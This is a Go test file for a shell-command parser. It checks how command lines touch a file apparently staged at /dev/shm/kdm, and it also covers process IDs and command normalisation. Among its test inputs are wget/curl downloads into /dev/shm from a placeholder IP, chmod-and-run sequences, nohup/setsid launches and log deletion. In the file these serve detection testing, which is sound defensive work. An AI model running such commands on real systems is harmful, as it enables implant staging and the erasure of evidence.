package command

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestWords(t *testing.T) {
	for line, want := range map[string][]string{
		``:                                  nil,
		`  ls  -la /dev/shm `:               {"ls", "-la", "/dev/shm"},
		`rm '/tmp/a b' "c\"d" e\ f`:         {"rm", "/tmp/a b", `c"d`, "e f"},
		`a;b&&c|d`:                          {"a", Separator, "b", Separator, "c", Separator, "d"},
		`cat x>/tmp/y`:                      {"cat", "x", ">", "/tmp/y"},
		"echo 'open":                        {"echo", "open"},
		`x\`:                                {`x\`},
		"/dev/shm/x --init && rm -f $(pwd)": {"/dev/shm/x", "--init", Separator, "rm", "-f", "$", Separator, "pwd", Separator},
	} {
		if d := cmp.Diff(want, Words(line)); d != "" {
			t.Errorf("%q: %s", line, d)
		}
	}
}

func TestOf(t *testing.T) {
	const p = "/dev/shm/kdm"
	cases := []struct {
		line, cwd string
		want      Touch
	}{
		{"/dev/shm/kdm --init", "", Runs},
		{"sudo -u root nohup /dev/shm/kdm &", "", Runs},
		{"A=1 setsid /dev/shm/./kdm", "", Runs},
		{`bash -c "chmod 755 /dev/shm/kdm; /dev/shm/kdm"`, "", Runs},
		{"./kdm", "/dev/shm", Runs},
		{"./kdm", "", NoWord},
		{"cd /dev/shm && chmod +x kdm && ./kdm", "", Runs},
		{"cd shm; rm kdm", "/dev", Removes},
		{"cd ~; ./kdm", "/dev/shm", NoWord},
		{"> /dev/shm/kdm", "", Makes},
		{"cp /root/a /dev/shm/kdm", "", Makes},
		{"cp /dev/shm/kdm /root/a", "", Names},
		{"mv /dev/shm/kdm /root/a", "", Removes},
		{"wget -O /dev/shm/kdm http://198.51.100.7/a", "", Makes},
		{"curl --output=/dev/shm/kdm http://198.51.100.7/a", "", Makes},
		{"cat a > /dev/shm/kdm", "", Makes},
		{"cat a >> /dev/shm/kdm", "", Makes},
		{"rm -f /dev/shm/kdm", "", Removes},
		{"ls -l /dev/shm/kdm", "", Names},
		{"sha256sum '/dev/shm/kdm'", "", Names},
		{"ls -l /dev/shm/kdm2", "", NoWord},
		{"dd if=/dev/shm/kdm of=/root/x", "", Names},
		{"scp /root/a web01:/dev/shm/kdm", "", Makes},
		{"ls /dev/shm", "", NoWord},
		{"rm /dev/shm/kdm && ls /dev/shm/kdm", "", Removes},
	}
	for _, c := range cases {
		if got := Of(c.line, c.cwd, p); got != c.want {
			t.Errorf("Of(%q, %q) = %q, want %q", c.line, c.cwd, got, c.want)
		}
	}
}

func TestNamesPID(t *testing.T) {
	for line, want := range map[string]bool{
		"kill -9 812": true, "sudo kill 812": true, "ls -l /proc/812/exe": true, "cat /proc/812": true, "strace -p 812": true,
		"kill -9 8120": false, "head -n 812 x": false, "kill -s 812 1": false, "cat /proc/8120/exe": false, "echo 812": false,
	} {
		if got := NamesPID(line, 812); got != want {
			t.Errorf("%q: %v", line, got)
		}
	}
}

func TestNamesWord(t *testing.T) {
	for line, want := range map[string]bool{"pkill kdm": true, "find / -name kdm": true, "ls /dev/shm/kdm": true, "pkill kdmx": false, "echo akdm": false} {
		if got := NamesWord(line, "kdm"); got != want {
			t.Errorf("%q: %v", line, got)
		}
	}
}

func FuzzSimples(f *testing.F) {
	for _, s := range []string{"a b", `sh -c "sh -c 'x; y'"`, "sudo -u", "> >", "'", "\\", "env A=b c", "timeout -k 5 10 x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		for _, w := range Words(line) {
			if w != Separator && len(w) > len(line) {
				t.Fatalf("word %q is longer than its line", w)
			}
		}
		for _, s := range Simples(line) {
			if s.Program == "" && strings.TrimSpace(line) == "" {
				t.Fatalf("a command out of nothing: %q", line)
			}
		}
		_ = Of(line, "/", "/x")
		_ = NamesPID(line, 1)
	})
}

func TestCore(t *testing.T) {
	same := []string{"sudo rm -f /var/log/x", "/usr/bin/rm -f /var/log/x", "rm  -f '/var/log/x'", "nohup sudo -u root rm -f /var/log/x"}
	for _, l := range same {
		if Core(l) != Core(same[0]) {
			t.Errorf("%q is not %q", l, same[0])
		}
	}
	for _, l := range []string{"rm /var/log/x", "rm -f /var/log/y", "", "echo > /var/log/x"} {
		if Core(l) == Core(same[0]) {
			t.Errorf("%q is %q", l, same[0])
		}
	}
}
